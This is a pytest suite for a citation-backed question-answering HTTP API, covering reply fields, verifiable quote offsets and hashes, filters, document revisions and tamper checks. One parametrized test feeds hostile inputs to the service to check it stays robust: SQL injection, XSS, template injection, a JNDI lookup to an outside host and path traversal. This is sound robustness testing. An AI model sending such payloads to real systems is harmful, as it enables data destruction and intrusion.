"""The HTTP contract, value by value: what is promised of replies, citations, documents and verdicts."""

import hashlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from api.app import create_app
from api.settings import Settings
from api.wiring import Runtime, open_runtime
from index.embed import Embedder
from index.sync import sync

Json = dict[str, Any]

ANSWERED = "Which news agency reported on January 10 that Japanese companies would get no new contracts?"
UNANSWERED = "At what temperature does tungsten melt?"

REPLY_FIELDS = {
    "id", "answerable", "answer", "short_answer", "confidence", "risk", "question", "standalone_question",
    "conversation_id", "citations", "sides", "sources_differ", "nearest", "generation", "receipt", "timings_ms",
}  # fmt: skip
CITATION_FIELDS = {
    "number", "document_id", "revision", "title", "uri", "publisher", "author", "published_at", "page", "quote",
    "start", "end", "byte_start", "byte_end", "quote_sha256", "highlight", "answer_start", "answer_end",
    "context", "dates",
}  # fmt: skip
DOCUMENT_FIELDS = {
    "object", "id", "uri", "revision", "title", "author", "publisher", "published_at", "language", "tags",
    "characters", "passages", "pages", "copy_group", "added_in_generation",
}  # fmt: skip

LIGHTHOUSE = """---
title: The lighthouse
published_at: {date}
language: {language}
tags: [{tag}]
---

The lighthouse on Skerry Rock was painted {colour} by its keeper Edda Holm. 🐧 The penguins “watched” the naïve painter.
"""


def lighthouse(folder: Path, name: str, *, date: str, colour: str, language: str = "en", tag: str = "coast") -> None:
    text = LIGHTHOUSE.format(date=date, colour=colour, language=language, tag=tag)
    (folder / name).write_text(text, encoding="utf-8")


@pytest.fixture(scope="module")
def coast(tmp_path_factory: pytest.TempPathFactory, embedder: Embedder) -> Iterator[TestClient]:
    """Yield a client of three documents that differ in date, tag and language; the first one has two revisions."""
    place = tmp_path_factory.mktemp("coast")
    sources = place / "sources"
    sources.mkdir()
    lighthouse(sources, "old.md", date="2024-05-01", colour="grey")
    lighthouse(sources, "new.md", date="2026-02-03", colour="white", tag="paint")
    lighthouse(sources, "sv.md", date="2025-01-01", colour="yellow", language="sv-SE", tag="öar")
    sync(place / "library", embedder, [sources])
    lighthouse(sources, "old.md", date="2024-05-01", colour="crimson")
    sync(place / "library", embedder, [sources])
    runtime = open_runtime(Settings(library=place / "library"), embedder)
    with TestClient(create_app(runtime), base_url="http://localhost") as client:
        yield client
    runtime.close()


def ask(client: TestClient, question: str, **fields: Any) -> Json:
    response = client.post("/v1/ask", json={"question": question, **fields})
    assert response.status_code == 200, response.text
    reply: Json = response.json()
    return reply


def document_named(client: TestClient, uri: str) -> Json:
    documents: list[Json] = client.get("/v1/documents").json()["data"]
    return next(document for document in documents if document["uri"] == uri)


def text_of(client: TestClient, document_id: str, revision: str) -> bytes:
    response = client.get(f"/v1/documents/{document_id}/text", params={"revision": revision})
    assert response.status_code == 200, response.text
    return response.content


def assert_provable(client: TestClient, citation: Json) -> None:
    """Check a citation the way a stranger would: from the bytes that the service hands out for its revision."""
    assert citation.keys() == CITATION_FIELDS
    data = text_of(client, citation["document_id"], citation["revision"])
    quote = citation["quote"]
    assert quote
    assert "sha256:" + hashlib.sha256(data).hexdigest() == citation["revision"]
    assert data.decode()[citation["start"] : citation["end"]] == quote
    assert data[citation["byte_start"] : citation["byte_end"]] == quote.encode()
    assert citation["quote_sha256"] == "sha256:" + hashlib.sha256(quote.encode()).hexdigest()
    known = client.get(f"/v1/documents/{citation['document_id']}").json()
    for field in ("title", "uri", "publisher", "author", "published_at"):
        assert citation[field] == known[field], field


# ---- the reply ---------------------------------------------------------------------------------------------------


def test_an_answer_has_every_field_of_the_contract_and_no_other(client: TestClient) -> None:
    reply = ask(client, ANSWERED)
    assert reply.keys() == REPLY_FIELDS
    assert reply["answerable"] is True
    assert reply["question"] == reply["standalone_question"] == ANSWERED
    assert "Kyodo" in reply["answer"]
    assert reply["risk"].keys() == {"target", "threshold", "wrong", "wrong_at_most", "coverage"}
    assert 0 < reply["risk"]["threshold"] <= reply["confidence"] <= 1
    assert reply["nearest"] == []
    assert reply["generation"] == 1
    assert isinstance(reply["id"], str)
    assert isinstance(reply["conversation_id"], str)
    assert reply["conversation_id"]
    assert reply["timings_ms"].keys() == {"retrieve", "read", "compose"}
    assert all(milliseconds >= 0 for milliseconds in reply["timings_ms"].values())


def test_the_first_side_is_the_answer_with_its_witnesses_counted_and_dated(client: TestClient) -> None:
    reply = ask(client, ANSWERED)
    side = reply["sides"][0]
    assert side.keys() == {"value", "citations", "documents", "independent", "published_from", "published_to"}
    assert side["value"] == reply["short_answer"]
    assert side["citations"][0] == 1
    assert 1 <= side["independent"] <= side["documents"] <= 2
    assert side["published_from"] <= reply["citations"][0]["published_at"] <= side["published_to"]
    assert reply["sources_differ"] is False


def test_without_an_answer_nobody_differs(client: TestClient) -> None:
    reply = ask(client, UNANSWERED)
    assert (reply["sides"], reply["sources_differ"]) == ([], False)


@pytest.mark.parametrize("most", [1, 3, 10])
def test_the_answer_is_made_of_its_quotes_each_at_its_place(client: TestClient, most: int) -> None:
    reply = ask(client, ANSWERED, max_citations=most)
    citations = reply["citations"]
    assert 1 <= len(citations) <= most
    assert [c["number"] for c in citations] == list(range(1, len(citations) + 1))
    assert reply["answer"] == " ".join(f"“{c['quote']}” [{c['number']}]" for c in citations)
    for citation in citations:
        assert reply["answer"][citation["answer_start"] : citation["answer_end"]] == citation["quote"]


def test_every_citation_can_be_proved_from_the_text_that_the_service_hands_out(client: TestClient) -> None:
    reply = ask(client, ANSWERED, max_citations=10)
    for citation in reply["citations"]:
        assert_provable(client, citation)
        highlight = citation["highlight"]
        assert citation["start"] <= highlight["start"] < highlight["end"] <= citation["end"]
    first = reply["citations"][0]
    text = text_of(client, first["document_id"], first["revision"]).decode()
    assert text[first["highlight"]["start"] : first["highlight"]["end"]] == reply["short_answer"]


def test_characters_and_bytes_part_ways_behind_letters_of_several_bytes(coast: TestClient) -> None:
    reply = ask(coast, "Who painted the lighthouse on Skerry Rock?", filter={"tags": ["öar"]}, max_citations=10)
    shown = reply["citations"] or reply["nearest"]
    assert shown
    for citation in shown:
        assert_provable(coast, citation)
    passage = next(hit for hit in coast.post("/v1/search", json={"query": "naïve painter"}).json()["data"])
    assert "🐧" in passage["content"][0]["text"]


def test_says_so_when_the_sources_do_not_and_shows_what_came_nearest(client: TestClient) -> None:
    reply = ask(client, UNANSWERED)
    assert reply.keys() == REPLY_FIELDS
    assert reply["answerable"] is False
    assert (reply["answer"], reply["short_answer"], reply["citations"]) == (None, None, [])
    assert reply["confidence"] < reply["risk"]["threshold"]
    assert [c["number"] for c in reply["nearest"]] == [1, 2, 3]
    for citation in reply["nearest"]:
        assert_provable(client, citation)
        assert (citation["highlight"], citation["answer_start"], citation["answer_end"]) == (None, None, None)


@pytest.mark.parametrize("question", [ANSWERED, UNANSWERED])
def test_the_same_question_gets_the_same_reply(client: TestClient, question: str) -> None:
    once, again = ask(client, question), ask(client, question)
    assert once["id"] != again["id"]
    assert once["conversation_id"] != again["conversation_id"]
    for reply in (once, again):
        for passing in ("id", "conversation_id", "timings_ms"):
            del reply[passing]
    assert once == again


def test_the_question_is_repeated_as_it_was_understood(client: TestClient) -> None:
    reply = ask(client, "Wer fragt nach Mu\u0308nchen?\r\nUnd\x07 warum?\x00")
    assert reply["question"] == "Wer fragt nach M\u00fcnchen?\nUnd warum?"


# ---- filters -----------------------------------------------------------------------------------------------------

PAINTER = "Who painted the lighthouse on Skerry Rock?"


@pytest.mark.parametrize(
    ("where", "uris"),
    [
        ({"published_from": "2025-06-01"}, {"new.md"}),
        ({"published_from": "2026-02-03", "published_to": "2026-02-03"}, {"new.md"}),
        ({"published_to": "2024-12-31"}, {"old.md"}),
        ({"tags": ["paint", "öar"]}, {"new.md", "sv.md"}),
        ({"language": "sv"}, {"sv.md"}),
        ({"language": "en-GB"}, {"old.md", "new.md"}),
        ({"language": "sv", "tags": ["paint"]}, set()),
        ({"document_ids": []}, set()),
        ({"document_ids": ["doc_of_somebody_else"]}, set()),
        ({"published_from": "2026-03-01", "published_to": "2026-01-01"}, set()),
    ],
)
def test_only_documents_that_the_filter_admits_are_quoted(coast: TestClient, where: Json, uris: set[str]) -> None:
    reply = ask(coast, PAINTER, filter=where, max_citations=10)
    quoted = {citation["uri"] for citation in (*reply["citations"], *reply["nearest"])}
    assert quoted <= uris
    assert bool(quoted) == bool(uris)
    found = coast.post("/v1/search", json={"query": PAINTER, "filter": where}).json()["data"]
    assert {hit["filename"] for hit in found} == uris


def test_documents_can_be_named_by_id(coast: TestClient) -> None:
    wanted = document_named(coast, "sv.md")
    reply = ask(coast, PAINTER, filter={"document_ids": [wanted["id"]]})
    assert {c["document_id"] for c in (*reply["citations"], *reply["nearest"])} == {wanted["id"]}


def test_a_filter_that_excludes_everything_leaves_nothing_to_say(client: TestClient) -> None:
    reply = ask(client, ANSWERED, filter={"published_from": "2300-01-01"})
    assert (reply["answerable"], reply["answer"], reply["citations"], reply["nearest"]) == (False, None, [], [])
    assert reply["confidence"] == 0


def test_an_empty_filter_and_no_filter_are_the_same(client: TestClient) -> None:
    replies = [ask(client, ANSWERED, filter=where) for where in (None, {}, {"tags": None, "language": None})]
    assert replies[0]["answer"] == replies[1]["answer"] == replies[2]["answer"]


# ---- hostile and odd questions -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "question",
    [
        "\u202eWho reported on the contracts? \u05de\u05d9 \u05d3\u05d9\u05d5\u05d5\u05d7?",
        "\U0001f9a9" * 2_000,
        "a\u0301" * 900,
        "e" + "\u0323\u0301" * 990,
        'title:* AND (body:"x" OR \\ ~ ^2 [a TO b] {{!}} \'; DROP TABLE versions; --',
        "?",
        "«»",
        "\u200b\u200d",
        "<script>alert(1)</script> {{7*7}} ${jndi:ldap://example.org} %s %n ../../etc/passwd",
        "the of and to in",
    ],
)
def test_no_question_is_too_odd_for_an_ordinary_reply(client: TestClient, question: str) -> None:
    reply = ask(client, question)
    assert reply["answerable"] in (True, False)


def test_half_a_surrogate_pair_becomes_the_replacement_character(client: TestClient) -> None:
    body = rb'{"question": "Who \ud800 reported on the contracts?"}'
    response = client.post("/v1/ask", content=body, headers={"Content-Type": "application/json"})
    assert response.status_code == 200
    assert response.json()["question"] == "Who \ufffd reported on the contracts?"


# ---- search --------------------------------------------------------------------------------------------------------


def test_search_returns_a_page_in_the_shape_of_a_vector_store(client: TestClient) -> None:
    page = client.post("/v1/search", json={"query": "export controls", "max_num_results": 2}).json()
    assert page.keys() == {"object", "search_query", "data", "has_more", "next_page", "generation"}
    assert page["object"] == "vector_store.search_results.page"
    assert page["search_query"] == ["export controls"]
    assert (page["has_more"], page["next_page"], page["generation"]) == (True, None, 1)
    assert len(page["data"]) == 2
    scores = [hit["score"] for hit in page["data"]]
    assert scores == sorted(scores, reverse=True)
    for hit in page["data"]:
        assert hit.keys() == {"file_id", "filename", "score", "attributes", "content"}
        where = hit["attributes"]
        text = text_of(client, hit["file_id"], where["revision"]).decode()
        assert hit["content"] == [{"type": "text", "text": text[where["start"] : where["end"]]}]


# ---- documents -----------------------------------------------------------------------------------------------------


def test_documents_come_in_pages_that_hold_each_of_them_once(coast: TestClient) -> None:
    whole = coast.get("/v1/documents").json()
    assert whole.keys() == {"object", "data", "has_more", "next_cursor", "total", "generation"}
    assert (whole["object"], whole["has_more"], whole["next_cursor"]) == ("list", False, None)
    assert (whole["total"], whole["generation"]) == (3, 2)
    ids = [document["id"] for document in whole["data"]]
    assert ids == sorted(ids)

    paged: list[str] = []
    cursor, more = "", True
    while more:
        page = coast.get("/v1/documents", params={"limit": 1, "after": cursor}).json()
        paged += [document["id"] for document in page["data"]]
        cursor, more = page["next_cursor"], page["has_more"]
    assert paged == ids
    assert cursor is None


def test_a_document_says_what_is_known_of_it(coast: TestClient) -> None:
    document = document_named(coast, "sv.md")
    assert document == coast.get(f"/v1/documents/{document['id']}").json()
    assert document.keys() == DOCUMENT_FIELDS
    assert document["object"] == "document"
    assert document["title"] == "The lighthouse"
    assert (document["author"], document["publisher"]) == (None, None)
    assert (document["published_at"], document["language"], document["tags"]) == ("2025-01-01", "sv-SE", ["öar"])
    assert (document["passages"], document["added_in_generation"]) == (1, 1)
    assert document["characters"] == len(text_of(coast, document["id"], document["revision"]).decode())


def test_the_text_of_a_document_is_that_of_its_present_revision_unless_another_is_named(coast: TestClient) -> None:
    document = document_named(coast, "old.md")
    assert document["added_in_generation"] == 2
    response = coast.get(f"/v1/documents/{document['id']}/text")
    assert response.headers["content-type"] == "text/plain; charset=utf-8"
    assert response.headers["etag"] == f'"{document["revision"]}"'
    assert response.content == text_of(coast, document["id"], document["revision"])
    assert b"painted crimson" in response.content


def test_an_earlier_revision_can_still_be_read_and_verified(coast: TestClient) -> None:
    document = document_named(coast, "old.md")
    present = text_of(coast, document["id"], document["revision"])
    before = present.replace(b"crimson", b"grey")
    earlier = "sha256:" + hashlib.sha256(before).hexdigest()
    assert text_of(coast, document["id"], earlier) == before

    claim = {"document_id": document["id"], "revision": earlier, "quote": "The lighthouse", "start": 0, "end": 14}
    verdict = coast.post("/v1/verify", json=claim).json()
    assert (verdict["status"], verdict["current"]) == ("verified", False)


@pytest.mark.parametrize(
    "path",
    [
        "/v1/documents/doc_unknown",
        "/v1/documents/doc_unknown/text",
        "/v1/documents/%00%0a/text",
        "/v1/documents/%F0%9F%90%A7",
    ],
)
def test_an_unknown_document_is_not_found(client: TestClient, path: str) -> None:
    response = client.get(path)
    assert (response.status_code, response.json()["type"].rsplit(":", 1)[1][:7]) == (404, "unknown")


def test_a_revision_of_another_document_is_not_found(coast: TestClient) -> None:
    old, new = document_named(coast, "old.md"), document_named(coast, "new.md")
    for revision in (new["revision"], "sha256:00", "", "latest"):
        response = coast.get(f"/v1/documents/{old['id']}/text", params={"revision": revision})
        assert (response.status_code, response.json()["type"]) == (404, "urn:citespan:problem:unknown-revision")


# ---- verify --------------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def citation(client: TestClient) -> Json:
    first: Json = ask(client, ANSWERED)["citations"][0]
    return first


def test_a_citation_as_it_came_is_verified(client: TestClient, citation: Json) -> None:
    verdict = client.post("/v1/verify", json=citation).json()
    assert verdict.keys() == {"status", "detail", "current"}
    assert (verdict["status"], verdict["current"]) == ("verified", True)


TAMPERED: list[tuple[str, Callable[[Any], Any], str]] = [
    ("document_id", lambda name: name + "0", "unknown"),
    ("revision", lambda name: name[:-1] + ("0" if name[-1] != "0" else "1"), "unknown"),
    ("quote", lambda quote: quote.replace("Japanese", "Korean"), "drifted"),
    ("quote", lambda quote: quote + " ", "drifted"),
    ("start", lambda start: start + 1, "drifted"),
    ("end", lambda end: end - 1, "drifted"),
    ("end", lambda end: 10**30, "drifted"),
    ("byte_start", lambda start: start + 1, "drifted"),
    ("byte_end", lambda end: end + 1, "drifted"),
    ("quote_sha256", lambda name: "sha256:" + "0" * 64, "drifted"),
]


@pytest.mark.parametrize(("field", "tamper", "status"), TAMPERED)
def test_a_citation_tampered_with_anywhere_is_not_verified(
    client: TestClient, citation: Json, field: str, tamper: Callable[[Any], Any], status: str
) -> None:
    assert citation[field] != tamper(citation[field])
    verdict = client.post("/v1/verify", json={**citation, field: tamper(citation[field])}).json()
    assert verdict["status"] == status
    assert verdict["detail"]


def test_the_least_that_can_be_verified_is_a_quote_and_where_it_stands(client: TestClient, citation: Json) -> None:
    least = {field: citation[field] for field in ("document_id", "revision", "quote", "start", "end")}
    assert client.post("/v1/verify", json=least).json()["status"] == "verified"
    for field in least:
        response = client.post("/v1/verify", json={name: value for name, value in least.items() if name != field})
        assert (response.status_code, response.json()["errors"][0]["field"]) == (422, field)


# ---- health --------------------------------------------------------------------------------------------------------


def test_health_and_readiness(client: TestClient, runtime: Runtime) -> None:
    assert client.get("/healthz").json()["status"] == "ok"
    ready = client.get("/readyz").json()
    assert ready == {"status": "ok", "generation": runtime.store.current().generation.number, "documents": 2}
